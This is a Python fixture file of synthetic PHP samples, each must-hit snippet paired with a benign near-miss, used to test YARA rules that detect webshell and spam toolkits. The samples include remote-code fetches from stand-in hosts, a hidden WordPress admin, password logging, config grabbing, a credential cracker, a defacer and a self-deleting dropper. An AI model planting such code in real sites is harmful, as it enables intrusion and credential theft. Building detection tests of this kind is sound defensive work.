"""Must-hit / near-miss samples for `signatures/toolkits.yar`, collected by tests/test_rules.py.

Small synthetic PHP written for the tests; no corpus excerpts.
"""

from __future__ import annotations

DIR_DIRECT = b"<?php\nforeach (scandir($_GET['d']) as $f) { echo $f . '<br>'; }\n"
DIR_VIA_FUNC = (
    b"<?php\nfunction walk_dir($d) {\n  $h = opendir($d);\n"
    b"  while (($f = readdir($h)) !== false) echo $f;\n}\n"
    b"if (isset($_GET['p'])) walk_dir($_GET['p']);\n"
)
DIR_SAFE = (
    b"<?php\n$base = __DIR__ . '/uploads';\n$sub = basename($_GET['d'] ?? '');\n"
    b"foreach (scandir($base . '/' . $sub) as $f) { echo htmlspecialchars($f); }\n"
)

DIR_BUILTIN_NEAR = (
    b"<?php\n$d = realpath(dirname($_REQUEST['filename']));\n"
    b"if (strpos($d, BASE) === 0 && ($h = opendir($d))) { while (readdir($h)) {} }\n"
)

DEFACER = (
    b"<?php\n$src = $_POST['url'];\n$root = $_POST['dir'];\n$h = opendir($root);\n"
    b"while (($e = readdir($h)) !== false) {\n  if (is_dir($root . $e)) {\n"
    b"    copy($src, $root . $e . '/index.html');\n  }\n}\n"
)
DEFACER_NEAR = (
    b"<?php\n// installer: protect every upload folder with an empty index page\n"
    b"$root = __DIR__ . '/data/';\n$h = opendir($root);\n"
    b"while (($e = readdir($h)) !== false) {\n"
    b"  if (is_dir($root . $e)) { touch($root . $e . '/index.html'); }\n}\n"
)

EDITOR = (
    b"<?php\n$p = $_REQUEST['p'] ?? '.';\nif (is_dir($p)) {\n"
    b"  foreach (scandir($p) as $f) echo \"<a href='?p=$p/$f'>$f</a><br>\";\n} else {\n"
    b"  echo '<form method=post><textarea name=c>' . htmlspecialchars(file_get_contents($p))"
    b" . '</textarea></form>';\n}\nif (isset($_POST['c'])) file_put_contents($p, $_POST['c']);\n"
    b"if (isset($_POST['rm'])) unlink($_POST['rm']);\n"
)
EDITOR_NEAR = (
    b"<?php\n$tpl = __DIR__ . '/templates/' . basename($_POST['name']);\n"
    b"foreach (scandir(__DIR__ . '/templates') as $f) echo htmlspecialchars($f);\n"
    b"echo '<textarea name=c>' . htmlspecialchars(file_get_contents($tpl)) . '</textarea>';\n"
    b"if (check_csrf()) { file_put_contents($tpl, sanitize($_POST['c'])); }\n"
)

EDITOR_BIG_APP_NEAR = (
    b"<?php\n/* theme editor of a larger CMS */\n$f = THEMES . '/' . basename($_GET['t']);\n"
    b"foreach (scandir(THEMES) as $t) echo htmlspecialchars($t);\n"
    b"echo '<textarea name=c>' . htmlspecialchars(file_get_contents($f)) . '</textarea>';\n"
    b"file_put_contents($f, $_POST['c']);\n/*" + b"x" * 21000 + b"*/\n"
)

DUMPER = (
    b"<?php\n$c = mysqli_connect('localhost', 'u', 'p', 'shop');\n$out = '';\n"
    b"$r = mysqli_query($c, 'SHOW TABLES');\nwhile ($t = mysqli_fetch_row($r)) {\n"
    b'  $d = mysqli_fetch_row(mysqli_query($c, "SHOW CREATE TABLE `$t[0]`"));\n'
    b'  $out .= $d[1] . ";\\n";\n  $rows = mysqli_query($c, "SELECT * FROM `$t[0]`");\n}\n'
    b"file_put_contents(date('Ymd') . '.sql', $out);\n"
)
DUMPER_NEAR = (
    b"<?php\nnamespace App\\Backup;\n\nfinal class Dumper\n{\n"
    b"    public function run(\\PDO $db): void\n    {\n"
    b"        $db = new PDO($this->dsn);\n        $t = $db->query('SHOW TABLES');\n"
    b"        $db->query('SHOW CREATE TABLE x');\n        $db->query(\"SELECT * FROM $t\");\n"
    b"        file_put_contents($this->target, '');\n    }\n}\n"
)

FILES_LOOP = (
    b"<?php\nif (!empty($_FILES)) {\n  foreach ($_FILES as $k => $v) {\n"
    b"    move_uploaded_file($v['tmp_name'], $v['name']);\n  }\n}\n"
)
FILES_LOOP_NEAR = (
    b"<?php\nforeach ($_FILES as $k => $v) {\n"
    b"  move_uploaded_file($v['tmp_name'], $dir . '/' . bin2hex(random_bytes(8)));\n}\n"
)

BEACON = (
    b'<?php @file_get_contents("http://203.0.113.9/i.php?h=" . urlencode($_SERVER["HTTP_HOST"])); ?>\n'
    b"<html><body>shop</body></html>\n"
)
BEACON_NEAR = (
    b'<?php $r = file_get_contents("http://203.0.113.9/api?h=" . urlencode($_SERVER["HTTP_HOST"]));\n'
    b"render($r);\n"
)

CLOAK = (
    b"<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'Googlebot') !== false) {\n"
    b"  echo fetch_page('http://spam.example.net/p.php?k=' . $_SERVER['HTTP_HOST']);\n  exit;\n}\n"
)
CLOAK_NEAR = (
    b"<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'Googlebot') !== false) { $cache = true; }\n"
    b"$home = 'https://' . $_SERVER['HTTP_HOST'] . '/';\n"
)

REVIP = (
    b"<?php\n$t = $_POST['ip'];\n$found = search_bing(\"ip:$t index.php\");\n"
    b"function search_bing($q) {\n"
    b"  return file_get_contents('http://www.bing.com/search?q=' . urlencode($q));\n}\n"
)
REVIP_NEAR = (
    b"<?php\n$q = $_GET['q'];\n"
    b"echo '<a href=\"https://www.bing.com/search?q=' . urlencode($q) . '\">search</a>';\n"
)

ROOTLINK = b"<?php\nif (isset($_POST['go'])) { symlink('/', 'root.txt'); }\n"
ROOTLINK_CMD = b"<?php\nsystem('ln -s / ./r00t');\n"
ROOTLINK_NEAR = b"<?php\nsymlink('/var/www/shared/config.php', __DIR__ . '/config.php');\n"

IFS = b"<?php\n$c = str_replace(' ', '${IFS}', $_REQUEST['c']);\necho file_get_contents($url . '?' . $c);\n"
IFS_NEAR = b"<?php\n$c = str_replace(' ', '+', $_REQUEST['q']);\necho $c;\n"

SELFDEL = b"<?php\nfile_put_contents($_POST['n'], base64_decode($_POST['d']));\n@unlink(__FILE__);\n"
SELFDEL_NEAR = (
    b"<?php\n// one-shot migration, removes itself when done\n"
    b"file_put_contents(__DIR__ . '/config.lock', date('c'));\nunlink(__FILE__);\n"
)

LISTENER = (
    b"<?php\n$ip = $_GET['listen_ip'];\n$port = (int) $_GET['listen_port'];\n"
    b"$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);\nsocket_bind($s, $ip, $port);\n"
    b"socket_listen($s);\n$c = socket_accept($s);\n"
)
LISTENER_NEAR = (
    b"<?php\n// CLI daemon, port from the config file\n$port = $config['port'];\n"
    b"$srv = stream_socket_server('tcp://127.0.0.1:' . $port);\n"
)

SQLCONSOLE = (
    b"<?php\n$h = $_POST['dbhost'];\n$u = $_POST['dbuser'];\n$p = $_POST['dbpass'];\n"
    b"$sql = stripslashes($_POST['sql']);\n$c = mysqli_connect($h, $u, $p);\n"
    b"$r = mysqli_query($c, $sql);\nwhile ($row = mysqli_fetch_row($r)) print_r($row);\n"
)
SQLCONSOLE_NEAR = (
    b"<?php\n$c = mysqli_connect(DB_HOST, DB_USER, DB_PASS);\n$id = (int) $_GET['id'];\n"
    b"$r = mysqli_query($c, 'SELECT name FROM items WHERE id = ' . $id);\n"
)

SHELL_LOCATION = (
    b"<?php\n$to = 'drop.box77@bol.com.br';\n"
    b"mail($to, 'up', $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'], 'From: x@example.org');\n"
)
SHELL_LOCATION_NEAR = (
    b"<?php\n$to = get_option('admin_email');\n"
    b"mail($to, 'Contact form', $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'] . $msg);\n"
)

FINGERPRINT = (
    b"<?php\n$m = $_SERVER['DOCUMENT_ROOT'] . \"\\n\" . $_SERVER['SERVER_ADDR'] . \"\\n\"\n"
    b"   . $_SERVER['SCRIPT_FILENAME'] . \"\\n\" . $_SERVER['SERVER_SOFTWARE'] . \"\\n\"\n"
    b"   . $_SERVER['REMOTE_ADDR'];\nmail('owner.x1@gmail.com', 'new host', $m);\n"
)
FINGERPRINT_NEAR = (
    b"<?php\n$m = $_SERVER['DOCUMENT_ROOT'] . $_SERVER['SERVER_ADDR'] . $_SERVER['SCRIPT_FILENAME']\n"
    b"   . $_SERVER['SERVER_SOFTWARE'] . $_SERVER['REMOTE_ADDR'];\n"
    b"mail(get_option('admin_email'), 'diagnostics', $m);\n"
)

PM_BULK = (
    b"<?php\nrequire 'PHPMailer/PHPMailerAutoload.php';\n"
    b"$list = explode(\"\\n\", $_POST['emaillist']);\nforeach ($list as $to) {\n"
    b"  $m = new PHPMailer();\n  $m->Subject = $_POST['subject'];\n"
    b"  $m->addAddress(trim($to));\n  $m->send();\n}\n"
)
PM_BULK_FILE = (
    b"<?php\nuse PHPMailer\\PHPMailer\\PHPMailer;\n$m = new PHPMailer\\PHPMailer\\PHPMailer();\n"
    b"foreach (file('leads.txt') as $to) { $m->clearAddresses(); $m->AddAddress($to); $m->Send(); }\n"
)
PM_BULK_NO_PARENS = (
    b"<?php\n$lines = file($_FILES['list']['tmp_name'], FILE_IGNORE_NEW_LINES);\n"
    b"foreach ($lines as $line) {\n  $mail = new PHPMailer;\n"
    b"  $mail->addAddress(trim($line));\n  $mail->send();\n}\n"
)
PM_BULK_NEAR = (
    b"<?php\n$m = new PHPMailer();\nforeach ($order->recipients() as $to) {\n"
    b"  $m->addAddress($to);\n}\n$m->Subject = 'Your order';\n$m->send();\n"
)

UPLOAD_INPUT_PATH = (
    b"<?php\nmove_uploaded_file($_FILES['f']['tmp_name'], $_POST['dir'] . '/' . $_FILES['f']['name']);\n"
)
UPLOAD_INPUT_PATH_NEAR = (
    b"<?php\n$dest = UPLOAD_DIR . '/' . bin2hex(random_bytes(8)) . '.jpg';\n"
    b"move_uploaded_file($_FILES['f']['tmp_name'], $dest);\n"
)

REMOTE_TO_PHP = (
    b"<?php\nfile_put_contents($dir . '/wp-cache.php', file_get_contents('http://203.0.113.7/s.txt'));\n"
)
REMOTE_TO_PHP_COPY = b"<?php\ncopy('https://paste.example.net/raw/x1', 'db-config.php');\n"
REMOTE_TO_PHP_NEAR = (
    b"<?php\nfile_put_contents($cache . '/feed.xml', file_get_contents('https://example.org/feed'));\n"
)

REMOTE_TO_PHP_WGET = b"<?php\nshell_exec('wget -q http://203.0.113.7/s.txt -O ../wp-load2.php');\n"
REMOTE_TO_PHP_CURLFILE = (
    b"<?php\n$fp = fopen(__DIR__ . '/cache.php', 'w');\n$ch = curl_init();\n"
    b"curl_setopt($ch, CURLOPT_URL, 'http://203.0.113.7/p.txt');\n"
    b"curl_setopt($ch, CURLOPT_FILE, $fp);\ncurl_exec($ch);\n"
)
REMOTE_TO_PHP_WGET_NEAR = (
    b"<?php\nshell_exec('wget -q https://example.org/dump.sql.gz -O /var/backups/d.gz');\n"
)

REMOTE_INCLUDE = b"<?php\ninclude 'http://203.0.113.7/x.txt';\n"
REMOTE_INCLUDE_NEAR = b"<?php\ninclude __DIR__ . '/http-client.php';\n// see https://example.org/doc\n"

WP_HIDE = (
    b"<?php\nadd_action('pre_user_query', function ($q) {\n  global $wpdb;\n"
    b"  $q->query_where = str_replace('WHERE 1=1', \"WHERE 1=1 AND {$wpdb->users}.user_login != 'sup0rt'\","
    b" $q->query_where);\n});\n"
)
WP_CREATE = (
    b"<?php\nif (isset($_GET['mkadm'])) {\n  $id = wp_create_user('sup0rt', 'pw', 'a@example.org');\n"
    b"  $u = new WP_User($id);\n  $u->set_role('administrator');\n}\n"
)
WP_NEAR = (
    b"<?php\n// installer: first account\n$id = wp_create_user($name, $pass, $mail);\n"
    b"$u = new WP_User($id);\n$u->set_role('administrator');\n"
    b"add_action('pre_user_query', 'my_sort_users');\n"
)

PW_LOG = b"<?php\nfile_put_contents('/tmp/.l', $_POST['log'] . ':' . $_POST['pwd'] . \"\\n\", FILE_APPEND);\n"
PW_LOG_FOPEN = b"<?php\n$f = fopen('.cache', 'a');\nfwrite($f, $_POST['user'] . '|' . $_POST['password']);\n"
PW_LOG_NEAR = (
    b"<?php\n$f = fopen('config.php', 'w');\n"
    b"fwrite($f, \"<?php define('DB_PASSWORD', '\" . addslashes($_POST['dbpass']) . \"');\");\n"
)

REF_REDIRECT = (
    b"<?php\n$ua = $_SERVER['HTTP_USER_AGENT'];\n"
    b"if (preg_match('/googlebot|bingbot/i', $ua)) { include 'keywords.html'; exit; }\n"
    b"if (stripos($_SERVER['HTTP_REFERER'], 'google') !== false) {\n"
    b"  header('Location: https://pills.example.net/buy'); exit;\n}\n"
)
REF_REDIRECT_NEAR = (
    b"<?php\nif (stripos($_SERVER['HTTP_REFERER'], 'google') !== false) { $src = 'search'; }\n"
    b"header('Location: https://www.example.org/welcome');\n"
)

GIF_SHORT_PHPINFO = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;<?phpinfo()?>"
GIF_NEAR = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;comment: see phpinfo docs"

FILEOPS = (
    b"<?php\nif (isset($_POST['del'])) unlink($_POST['del']);\n"
    b"if (isset($_POST['ch'])) chmod($_POST['ch'], octdec($_POST['mode']));\n"
)
FILEOPS_NEAR = (
    b"<?php\nif (isset($_POST['del'])) unlink($_POST['del']);\n"
    b"$name = basename($_POST['ren']);\nrename(UPLOADS . $name, UPLOADS . $name . '.old');\n"
)

CRACKER = (
    b"<?php\n$users = file('/etc/passwd');\nforeach ($users as $l) {\n"
    b"  $u = explode(':', $l)[0];\n  $c = ftp_connect('127.0.0.1');\n"
    b"  if (@ftp_login($c, $u, $u . '123')) echo \"$u ok\\n\";\n}\n"
)
CRACKER_NEAR = (
    b"<?php\n// login form\nforeach ($servers as $s) { $c = ftp_connect($s); ftp_login($c, $user, $pass); }\n"
)

GRABBER = (
    b"<?php\nforeach (file('/etc/passwd') as $l) {\n  $u = explode(':', $l)[0];\n"
    b"  foreach (['wp-config.php', 'configuration.php', 'app/etc/local.xml', 'config.inc.php']"
    b' as $c) {\n    @symlink("/home/$u/public_html/$c", "$u-$c.txt");\n  }\n}\n'
)
GRABBER_NEAR = (
    b"<?php\n// migration helper: looks for this site's own config\n"
    b"foreach (['wp-config.php', 'configuration.php', 'config.inc.php'] as $c) {\n"
    b"  if (is_file(__DIR__ . '/' . $c)) { $found = $c; }\n}\n"
)

CASES: list[tuple[str, bytes, bool]] = [
    ("SPAMGEAR_TOOLKIT_DirListingOfInput", DIR_DIRECT, True),
    ("SPAMGEAR_TOOLKIT_DirListingOfInput", DIR_VIA_FUNC, True),
    ("SPAMGEAR_TOOLKIT_DirListingOfInput", DIR_SAFE, False),
    ("SPAMGEAR_TOOLKIT_DirListingOfInput", DIR_BUILTIN_NEAR, False),
    ("SPAMGEAR_TOOLKIT_DirListingOfInput", b"scandir($_GET['d']) in a text note\n", False),
    ("SPAMGEAR_TOOLKIT_MassDefacer", DEFACER, True),
    ("SPAMGEAR_TOOLKIT_MassDefacer", DEFACER_NEAR, False),
    ("SPAMGEAR_TOOLKIT_TextareaFileEditor", EDITOR, True),
    ("SPAMGEAR_TOOLKIT_TextareaFileEditor", EDITOR_NEAR, False),
    ("SPAMGEAR_TOOLKIT_TextareaFileEditor", EDITOR_BIG_APP_NEAR, False),
    ("SPAMGEAR_TOOLKIT_StandaloneDbDumper", DUMPER, True),
    ("SPAMGEAR_TOOLKIT_StandaloneDbDumper", DUMPER_NEAR, False),
    ("SPAMGEAR_TOOLKIT_FilesLoopClientName", FILES_LOOP, True),
    ("SPAMGEAR_TOOLKIT_FilesLoopClientName", FILES_LOOP_NEAR, False),
    ("SPAMGEAR_TOOLKIT_HostBeaconDiscarded", BEACON, True),
    ("SPAMGEAR_TOOLKIT_HostBeaconDiscarded", BEACON_NEAR, False),
    ("SPAMGEAR_TOOLKIT_CrawlerCloakRemoteHost", CLOAK, True),
    ("SPAMGEAR_TOOLKIT_CrawlerCloakRemoteHost", CLOAK_NEAR, False),
    ("SPAMGEAR_TOOLKIT_ReverseIpLookup", REVIP, True),
    ("SPAMGEAR_TOOLKIT_ReverseIpLookup", REVIP_NEAR, False),
    ("SPAMGEAR_TOOLKIT_RootSymlink", ROOTLINK, True),
    ("SPAMGEAR_TOOLKIT_RootSymlink", ROOTLINK_CMD, True),
    ("SPAMGEAR_TOOLKIT_RootSymlink", ROOTLINK_NEAR, False),
    ("SPAMGEAR_TOOLKIT_IfsCommandEvasion", IFS, True),
    ("SPAMGEAR_TOOLKIT_IfsCommandEvasion", IFS_NEAR, False),
    ("SPAMGEAR_TOOLKIT_SelfDeletingDropper", SELFDEL, True),
    ("SPAMGEAR_TOOLKIT_SelfDeletingDropper", SELFDEL_NEAR, False),
    ("SPAMGEAR_TOOLKIT_SocketListenerFromInput", LISTENER, True),
    ("SPAMGEAR_TOOLKIT_SocketListenerFromInput", LISTENER_NEAR, False),
    ("SPAMGEAR_TOOLKIT_SqlConsoleOnInputCreds", SQLCONSOLE, True),
    ("SPAMGEAR_TOOLKIT_SqlConsoleOnInputCreds", SQLCONSOLE_NEAR, False),
    ("SPAMGEAR_TOOLKIT_MailedShellLocation", SHELL_LOCATION, True),
    ("SPAMGEAR_TOOLKIT_MailedShellLocation", SHELL_LOCATION_NEAR, False),
    ("SPAMGEAR_TOOLKIT_MailedHostFingerprint", FINGERPRINT, True),
    ("SPAMGEAR_TOOLKIT_MailedHostFingerprint", FINGERPRINT_NEAR, False),
    ("SPAMGEAR_TOOLKIT_PhpMailerBulkFromList", PM_BULK, True),
    ("SPAMGEAR_TOOLKIT_PhpMailerBulkFromList", PM_BULK_FILE, True),
    ("SPAMGEAR_TOOLKIT_PhpMailerBulkFromList", PM_BULK_NEAR, False),
    ("SPAMGEAR_TOOLKIT_PhpMailerBulkFromList", PM_BULK_NO_PARENS, True),
    ("SPAMGEAR_TOOLKIT_UploadToInputPath", UPLOAD_INPUT_PATH, True),
    ("SPAMGEAR_TOOLKIT_UploadToInputPath", UPLOAD_INPUT_PATH_NEAR, False),
    ("SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile", REMOTE_TO_PHP, True),
    ("SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile", REMOTE_TO_PHP_COPY, True),
    ("SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile", REMOTE_TO_PHP_NEAR, False),
    ("SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile", REMOTE_TO_PHP_WGET, True),
    ("SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile", REMOTE_TO_PHP_CURLFILE, True),
    ("SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile", REMOTE_TO_PHP_WGET_NEAR, False),
    ("SPAMGEAR_TOOLKIT_RemoteInclude", REMOTE_INCLUDE, True),
    ("SPAMGEAR_TOOLKIT_RemoteInclude", REMOTE_INCLUDE_NEAR, False),
    ("SPAMGEAR_TOOLKIT_WpHiddenAdmin", WP_HIDE, True),
    ("SPAMGEAR_TOOLKIT_WpHiddenAdmin", WP_CREATE, True),
    ("SPAMGEAR_TOOLKIT_WpHiddenAdmin", WP_NEAR, False),
    ("SPAMGEAR_TOOLKIT_PostedPasswordLogged", PW_LOG, True),
    ("SPAMGEAR_TOOLKIT_PostedPasswordLogged", PW_LOG_FOPEN, True),
    ("SPAMGEAR_TOOLKIT_PostedPasswordLogged", PW_LOG_NEAR, False),
    ("SPAMGEAR_TOOLKIT_SearchRefererRedirect", REF_REDIRECT, True),
    ("SPAMGEAR_TOOLKIT_SearchRefererRedirect", REF_REDIRECT_NEAR, False),
    ("SPAMGEAR_POLYGLOT_ImageWithPhp", GIF_SHORT_PHPINFO, True),
    ("SPAMGEAR_POLYGLOT_ImageWithPhp", GIF_NEAR, False),
    ("SPAMGEAR_TOOLKIT_FileOpsOnRawInput", FILEOPS, True),
    ("SPAMGEAR_TOOLKIT_FileOpsOnRawInput", FILEOPS_NEAR, False),
    ("SPAMGEAR_TOOLKIT_LocalCredentialCracker", CRACKER, True),
    ("SPAMGEAR_TOOLKIT_LocalCredentialCracker", CRACKER_NEAR, False),
    ("SPAMGEAR_TOOLKIT_ConfigGrabber", GRABBER, True),
    ("SPAMGEAR_TOOLKIT_ConfigGrabber", GRABBER_NEAR, False),
]
